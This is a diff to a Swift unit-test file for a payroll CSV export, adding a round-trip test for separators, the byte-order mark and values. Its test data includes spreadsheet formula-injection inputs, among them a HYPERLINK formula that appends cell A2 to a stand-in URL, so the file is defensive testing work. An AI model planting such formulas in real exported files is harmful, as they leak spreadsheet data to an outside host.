@@ -2,6 +2,7 @@ import FicheApp
 import FicheCSV
 import FicheDomain
 import FicheReplica
+import Foundation
 import XCTest
 
 /// The payroll file: what payroll imports for one employer and month.
@@ -41,6 +42,23 @@ final class PayrollExportCSVTests: XCTestCase {
         let parsed = try CSVTable.parse(text, separator: ";")
         XCTAssertEqual(parsed.first { $0.fields.first == "AC-000101" }?.fields[1],
                        "=HYPERLINK(\"http://x?\"&A2,\"De Coster\"), Éloïse")
+    }
+
+    /// The file as written to disk (mark, `;`, CRLF) reads back to the same header and values,
+    /// the separator found without being told: what an import of it sees.
+    func testTheFileReadsBackToTheSameValues() throws {
+        let database = try QueueFixture.closingOnly()
+        try database.applyPulled(QueueFixture.validatedElsewhere(QueueFixture.byClerkAC1))
+        let rules = try RuleBook.bundled()
+        var rows = try database.payrollExport(employerCode: "AC-IXL", month: try YearMonth.parse("2026-11"), rules: rules)
+        let index = try XCTUnwrap(rows.firstIndex { $0.dossierNumber == "AC-000101" })
+        rows[index].lastName = "=1+1; -2"
+        let file = PayrollExportCSV.file(rows: rows, catalogue: rules.absenceCatalogue, monthClosed: true)
+        let read = try CSVSheet.read(try CSVText.decode(Data([0xEF, 0xBB, 0xBF]) + Data(file.text.utf8)).text)
+        XCTAssertEqual(read.separator, ";")
+        XCTAssertEqual(read.header?.fields, file.header)
+        XCTAssertEqual(read.rows.map(\.fields), file.rows)
+        XCTAssertTrue(file.rows.contains { $0[1] == "=1+1; -2, Éloïse" })
     }
 
     /// An entry still waiting for validation is not in the figures but is counted on its line,
